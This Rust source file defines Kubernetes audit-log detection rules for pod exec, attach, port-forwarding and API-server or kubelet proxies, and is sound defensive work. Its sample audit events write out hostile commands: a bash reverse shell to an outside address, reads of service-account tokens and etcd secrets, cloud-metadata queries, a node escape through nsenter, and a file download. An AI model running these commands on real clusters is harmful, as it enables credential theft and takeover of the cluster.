//! Getting into containers and nodes through the API server: exec, attach, port-forward, proxies.

use airside_types::attack::technique;
use airside_types::{Entity, Severity, Source, Tactic};
use percent_encoding::percent_decode_str;

use super::super::client::Client;
use super::super::request::Request;
use super::super::{exec, links};
use super::{Definition, Ended, Firing, On};
use crate::command::{self, Command};
use crate::rule::{Examples, LIKELY, PLAUSIBLE, Rule, SURE};

/// A WebSocket's request is a `get`; SPDY's is a `create`.
const CONNECT: &[&str] = &["create", "get"];
const EVERY_VERB: &[&str] = &["create", "get", "update", "patch", "delete"];
const EXEC: &[&str] = &["pods/exec"];

pub(super) static RULES: &[Definition] = &[
    Definition {
        rule: Rule {
            id: "AUD-R24",
            version: 1,
            title: "Command run in a pod through the API server",
            why: "A shell in a container sees what the container sees. People do it to debug, and intruders do it to move.",
            next: "Look at the command, at what the process did in the container, and whether the person works with this workload.",
            severity: Severity::Low,
            confidence: SURE,
            tactic: Tactic::Execution,
            techniques: &[technique("T1609")],
            equivalents: &[
                "falco:Attach/Exec Pod",
                "panther:GCP.K8s.ExecIntoPod",
                "sigma:Potential Remote Command Execution In Pod Container",
                "elastic:Kubernetes User Exec into Pod",
                "crowdsec:crowdsecurity/k8s-audit-pod-exec",
            ],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"stage":"ResponseStarted","verb":"get","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=sh&container=web&tty=true","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=sh","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":403}}"#,
            }),
        },
        on: On::Resources(CONNECT, EXEC),
        ended: Ended::Done,
        when: |request| {
            let line = exec::command_line(request);
            let deed = match line.as_str() {
                "" => "ran a command".to_owned(),
                line => format!("ran `{}`", command::shown(line, 120)),
            };
            // The runners of pipelines work in pods of their own namespace all day.
            let is_own = request.is_in_own_namespace() && request.client() == Client::Program;
            let by_workload = request.actor().is_workload() && !is_own;
            let severity = if by_workload { Severity::Medium } else { Severity::Low };
            Some(in_pod(request, &deed).at(severity).with("command", &line))
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R25",
            version: 1,
            title: "Command run in a pod of the cluster itself",
            why: "Pods of the system namespaces hold the cluster's own rights.",
            next: "Look at the command and at what the pod's service account did since; few people have a reason to be there.",
            severity: Severity::Medium,
            confidence: LIKELY,
            tactic: Tactic::Execution,
            techniques: &[technique("T1609")],
            equivalents: &["guardduty:Execution:Kubernetes/ExecInKubeSystemPod"],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=sh","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=sh","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
            }),
        },
        on: On::Resources(CONNECT, EXEC),
        ended: Ended::Done,
        when: |request| {
            request.is_in_system_namespace().then(|| exec_firing(request, "ran a command"))
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R26",
            version: 2,
            title: "Credentials read through exec",
            why: "The command reads a token, a key or an environment: what is read is known outside from now on.",
            next: "Replace what was read. Follow the token's id through the log, from whichever address it is used.",
            severity: Severity::High,
            confidence: LIKELY,
            tactic: Tactic::CredentialAccess,
            techniques: &[technique("T1552.001"), technique("T1528")],
            equivalents: &["stratus:k8s.credential-access.steal-serviceaccount-token"],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=cat&command=%2Fetc%2Fhostname","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
            }),
        },
        on: On::Resources(CONNECT, EXEC),
        ended: Ended::Done,
        when: |request| exec_doing(request, Command::reads_credentials, "read credentials"),
    },
    Definition {
        rule: Rule {
            id: "AUD-R26-etcd",
            version: 1,
            title: "Store of the cluster opened past the API server",
            why: "etcd holds every secret, and what is written there passes no admission, no rights and no audit log.",
            next: "What was read or written, from the pod's own log; treat all secrets as read, and compare roles and bindings with the repository.",
            severity: Severity::High,
            confidence: LIKELY,
            tactic: Tactic::CredentialAccess,
            techniques: &[technique("T1552")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=etcdctl&command=get&command=%2Fregistry%2Fsecrets%2Fshop%2Fdb","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=etcdctl&command=endpoint&command=health","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
            }),
        },
        on: On::Resources(CONNECT, EXEC),
        ended: Ended::Done,
        when: |request| exec_doing(request, Command::opens_etcd, "opened the cluster's store"),
    },
    Definition {
        rule: Rule {
            id: "AUD-R27",
            version: 1,
            title: "Cloud metadata reached through exec",
            why: "The metadata service gives out the node's cloud credentials.",
            next: "Look in the cloud's log for the node's role being used from elsewhere; set a hop limit, or workload identities.",
            severity: Severity::High,
            confidence: LIKELY,
            tactic: Tactic::CredentialAccess,
            techniques: &[technique("T1552.005")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"get","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"get","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=curl&command=http%3A%2F%2Fapi%3A8080%2F","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
            }),
        },
        on: On::Resources(CONNECT, EXEC),
        ended: Ended::Done,
        when: |request| {
            exec_doing(request, Command::reaches_metadata, "asked the cloud's metadata service")
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R28",
            version: 1,
            title: "Reverse shell opened through exec",
            why: "The command hands a shell to a machine outside.",
            next: "Cut the pod off the network and keep it; look at what it reached, and for the address in other flows.",
            severity: Severity::Critical,
            confidence: SURE,
            tactic: Tactic::Execution,
            techniques: &[technique("T1059.004"), technique("T1095")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.7%2F4444+0%3E%261","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=bash&command=-i","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
            }),
        },
        on: On::Resources(CONNECT, EXEC),
        ended: Ended::Done,
        when: |request| exec_doing(request, Command::is_reverse_shell, "opened a reverse shell"),
    },
    Definition {
        rule: Rule {
            id: "AUD-R28-node",
            version: 1,
            title: "Node entered through exec",
            why: "The command goes on as a process of the node, with all pods and the kubelet's credentials in its reach.",
            next: "Ask who needed it; look on the node at what the command did, and which pods' credentials are on it.",
            severity: Severity::Medium,
            confidence: LIKELY,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1611")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=nsenter&command=-t&command=1&command=-m&command=sh","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=nsenter&command=-t&command=77&command=-n&command=ss","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
            }),
        },
        on: On::Resources(CONNECT, EXEC),
        ended: Ended::Done,
        when: |request| {
            let firing = exec_doing(request, Command::enters_node, "entered its node")?;
            let by_workload = request.is_workload_by_hand();
            Some(firing.at(if by_workload { Severity::High } else { Severity::Medium }))
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R29",
            version: 1,
            title: "File downloaded through exec",
            why: "Tools that an image does not have are brought in this way.",
            next: "Find the file in the container and what ran it; look at who else fetched from the address.",
            severity: Severity::Medium,
            confidence: PLAUSIBLE,
            tactic: Tactic::CommandAndControl,
            techniques: &[technique("T1105")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=wget&command=https%3A%2F%2Fexample.net%2Ft","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=wget&command=--version","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
            }),
        },
        on: On::Resources(CONNECT, EXEC),
        ended: Ended::Done,
        when: |request| {
            let firing = exec_doing(request, Command::downloads, "downloaded a file")?;
            let only_looks = exec::command(request).only_looks();
            Some(if only_looks { firing.at(Severity::Low) } else { firing })
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R30",
            version: 1,
            title: "Files copied out of a pod",
            why: "This is what `kubectl cp` sends; the files leave with the answer.",
            next: "See which files they were and whether they held customers' data or credentials.",
            severity: Severity::Low,
            confidence: PLAUSIBLE,
            tactic: Tactic::Collection,
            techniques: &[technique("T1005"), technique("T1041")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=tar&command=cf&command=-&command=%2Fdata","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=tar&command=xmf&command=-","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101}}"#,
            }),
        },
        on: On::Resources(CONNECT, EXEC),
        ended: Ended::Done,
        when: |request| exec_doing(request, Command::archives_to_stdout, "copied files out"),
    },
    Definition {
        rule: Rule {
            id: "AUD-R31",
            version: 1,
            title: "Port forwarded to a pod",
            why: "A tunnel past every network policy, to ports that no service exposes.",
            next: "Ask what was reached through it; look at the target's own log for who logged in.",
            severity: Severity::Info,
            confidence: SURE,
            tactic: Tactic::CommandAndControl,
            techniques: &[technique("T1572"), technique("T1090")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"db-0","subresource":"portforward"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"get","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"db-0","subresource":"log"},"responseStatus":{"code":200}}"#,
            }),
        },
        on: On::Resources(CONNECT, &["pods/portforward"]),
        ended: Ended::Done,
        when: |request| {
            let by_workload = request.actor().is_workload();
            let severity = if by_workload { Severity::Medium } else { Severity::Info };
            Some(in_pod(request, "opened a tunnel to a port").at(severity))
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R32",
            version: 1,
            title: "Attached to a container",
            why: "Attaching reads and feeds the main process of a container.",
            next: "See what the process prints and takes; look at what it did since.",
            severity: Severity::Low,
            confidence: SURE,
            tactic: Tactic::Execution,
            techniques: &[technique("T1609")],
            equivalents: &["falco:Attach/Exec Pod"],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"get","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"attach"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"get","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0"},"responseStatus":{"code":200}}"#,
            }),
        },
        on: On::Resources(CONNECT, &["pods/attach"]),
        ended: Ended::Done,
        when: |request| Some(in_pod(request, "attached to a container")),
    },
    Definition {
        rule: Rule {
            id: "AUD-R33",
            version: 1,
            title: "Ephemeral container added to a pod",
            why: "A debugging container joins a running pod with an image of one's choice, and no admission of a new pod.",
            next: "Read the container's image and rights; it cannot be removed but with the pod.",
            severity: Severity::Medium,
            confidence: SURE,
            tactic: Tactic::PrivilegeEscalation,
            techniques: &[technique("T1610"), technique("T1611")],
            equivalents: &["falco:EphemeralContainers Created"],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"ephemeralcontainers"},"responseStatus":{"code":200}}"#,
                quiet: r#"{"verb":"patch","user":{"username":"system:node:node-1"},"objectRef":{"resource":"pods","namespace":"shop","name":"web-0","subresource":"status"},"responseStatus":{"code":200}}"#,
            }),
        },
        on: On::Resources(&["update", "patch", "create"], &["pods/ephemeralcontainers"]),
        ended: Ended::Done,
        when: |request| Some(in_pod(request, "added an ephemeral container")),
    },
    Definition {
        rule: Rule {
            id: "AUD-R34",
            version: 1,
            title: "Service or pod reached through the API server's proxy",
            why: "The proxy reaches inside ports with the API server's own address.",
            next: "Look at the path and the service's own log: the caller is the API server there.",
            severity: Severity::Info,
            confidence: PLAUSIBLE,
            tactic: Tactic::CommandAndControl,
            techniques: &[technique("T1090")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"get","requestURI":"/api/v1/namespaces/ops/services/grafana:80/proxy/api/users","user":{"username":"dana"},"objectRef":{"resource":"services","namespace":"ops","name":"grafana:80","subresource":"proxy"},"responseStatus":{"code":200}}"#,
                quiet: r#"{"verb":"get","requestURI":"/api/v1/namespaces/ops/services/grafana","user":{"username":"dana"},"objectRef":{"resource":"services","namespace":"ops","name":"grafana"},"responseStatus":{"code":200}}"#,
            }),
        },
        on: On::Resources(EVERY_VERB, &["services/proxy", "pods/proxy"]),
        ended: Ended::Done,
        when: |request| {
            (!request.is_by_trusted_system()).then(|| {
                let severity =
                    if request.is_workload_by_hand() { Severity::Medium } else { Severity::Info };
                Firing::new(format!("reached {}", request.path()))
                    .at(severity)
                    .with("requestURI", request.path())
            })
        },
    },
    Definition {
        rule: Rule {
            id: "AUD-R35",
            version: 1,
            title: "Kubelet reached through the API server's proxy",
            why: "The kubelet's API lists and enters all pods of its node, past admission and most auditing.",
            next: "Look at the path; take nodes/proxy away from whoever does not run monitoring, and give monitoring nodes/metrics.",
            severity: Severity::Medium,
            confidence: LIKELY,
            tactic: Tactic::LateralMovement,
            techniques: &[technique("T1210"), technique("T1611")],
            equivalents: &["stratus:k8s.privilege-escalation.nodes-proxy"],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"get","requestURI":"/api/v1/nodes/node-1/proxy/pods?x=metrics","user":{"username":"dana"},"objectRef":{"resource":"nodes","name":"node-1","subresource":"proxy"},"responseStatus":{"code":200}}"#,
                quiet: r#"{"verb":"get","requestURI":"/api/v1/nodes/node-1/proxy/metrics/cadvisor","user":{"username":"system:serviceaccount:ops:prometheus"},"objectRef":{"resource":"nodes","name":"node-1","subresource":"proxy"},"responseStatus":{"code":200}}"#,
            }),
        },
        on: On::Resources(EVERY_VERB, &["nodes/proxy"]),
        ended: Ended::Done,
        when: |request| kubelet_proxy(request, false),
    },
    Definition {
        rule: Rule {
            id: "AUD-R36",
            version: 1,
            title: "Command run through the kubelet's API",
            why: "Entering a container this way needs no right to exec, and the audit log shows no exec.",
            next: "Look at the node's own log for what ran, and take nodes/proxy away; treat the pods that were entered as lost.",
            severity: Severity::High,
            confidence: SURE,
            tactic: Tactic::Execution,
            techniques: &[technique("T1609"), technique("T1210")],
            equivalents: &[],
            source: Source::Audit,
            examples: Some(Examples {
                fires: r#"{"verb":"get","requestURI":"/api/v1/nodes/node-1/proxy/exec/shop/web-0/web?command=id","user":{"username":"dana"},"objectRef":{"resource":"nodes","name":"node-1","subresource":"proxy"},"responseStatus":{"code":101}}"#,
                quiet: r#"{"verb":"get","requestURI":"/api/v1/nodes/node-1/proxy/healthz","user":{"username":"dana"},"objectRef":{"resource":"nodes","name":"node-1","subresource":"proxy"},"responseStatus":{"code":200}}"#,
            }),
        },
        on: On::Resources(EVERY_VERB, &["nodes/proxy"]),
        ended: Ended::Done,
        when: |request| kubelet_proxy(request, true),
    },
];

/// A firing about what was done in the pod that the path names.
fn in_pod(request: &Request<'_>, deed: &str) -> Firing {
    let container = exec::container(request);
    let within =
        if container.is_empty() { String::new() } else { format!(", container {container}") };
    Firing::new(format!("{deed} in pod {}/{}{within}", request.namespace(), request.name()))
        .with("objectRef.subresource", request.subresource())
}

fn exec_firing(request: &Request<'_>, deed: &str) -> Firing {
    let line = exec::command_line(request);
    let shown = command::shown(&line, 120);
    let deed = if line.is_empty() { deed.to_owned() } else { format!("{deed} (`{shown}`)") };
    in_pod(request, &deed).with("command", &line)
}

fn exec_doing(request: &Request<'_>, does: fn(&Command) -> bool, deed: &str) -> Option<Firing> {
    does(&exec::command(request)).then(|| exec_firing(request, deed))
}

/// The path below the kubelet's address, as the kubelet reads it: escapes decoded, `//` and `..` taken out.
/// And whether it was written in another way, which no program does that only asks for figures.
fn kubelet_path(request: &Request<'_>) -> (String, bool) {
    // `/api/v1/nodes/NAME/proxy/…`, of which any letter may be written as an escape.
    let mut steps = request.path().splitn(7, '/').skip(3);
    let is = |step: Option<&str>, word: &str| {
        step.is_some_and(|step| percent_decode_str(step).eq(word.bytes()))
    };
    let is_plain = is(steps.next(), "nodes") && steps.next().is_some() && is(steps.next(), "proxy");
    let below = steps.next().filter(|_| is_plain);
    // Written in another way: whatever is behind it.
    let otherwise = || request.path().rsplit_once("/proxy/").map_or("", |(_, path)| path);
    let written = match below {
        Some(below) => format!("/{below}"),
        None if is_plain => String::new(),
        None => format!("/{}", otherwise()),
    };
    let mut path = written.clone();
    // A proxy may decode once more than the one before it.
    for _ in 0..MAX_ESCAPES {
        let decoded = percent_decode_str(&path).decode_utf8_lossy().into_owned();
        if decoded == path {
            break;
        }
        path = decoded;
    }
    let mut steps: Vec<&str> = Vec::new();
    for step in path.split('/') {
        match step {
            "" | "." => {}
            ".." => {
                steps.pop();
            }
            step => steps.push(step),
        }
    }
    let normal = format!("/{}", steps.join("/"));
    let is_disguised =
        normal != written.trim_end_matches('/') && !written.trim_matches('/').is_empty();
    (normal, is_disguised)
}

/// How often escapes within escapes are opened.
const MAX_ESCAPES: usize = 3;

fn enters_container(path: &str) -> bool {
    const ENTRANCES: [&str; 6] = ["exec", "run", "attach", "portforward", "cri", "checkpoint"];
    let first = path.split('/').find(|step| !step.is_empty()).unwrap_or_default();
    ENTRANCES.iter().any(|entrance| first.eq_ignore_ascii_case(entrance))
}

/// Monitoring reads figures through this proxy; everything else counts. Only the path decides, as the
/// query is free for a client to fill.
fn kubelet_proxy(request: &Request<'_>, enters: bool) -> Option<Firing> {
    let (path, is_disguised) = kubelet_path(request);
    if enters_container(&path) != enters {
        return None;
    }
    let is_figures = ["/metrics", "/stats", "/healthz"].iter().any(|figures| {
        path.strip_prefix(figures).is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
    });
    let is_monitoring = is_figures && !is_disguised && request.verb() == "get";
    (!is_monitoring && !request.is_by_trusted_system()).then(|| {
        let node: Entity = links::node(request.name(), None);
        let firing =
            Firing::new(format!("reached the kubelet of node {} at {path}", request.name()))
                .with("requestURI", request.path())
                .on(node);
        // Nobody but an attacker writes such a path.
        if is_disguised { firing.at(Severity::High) } else { firing }
    })
}
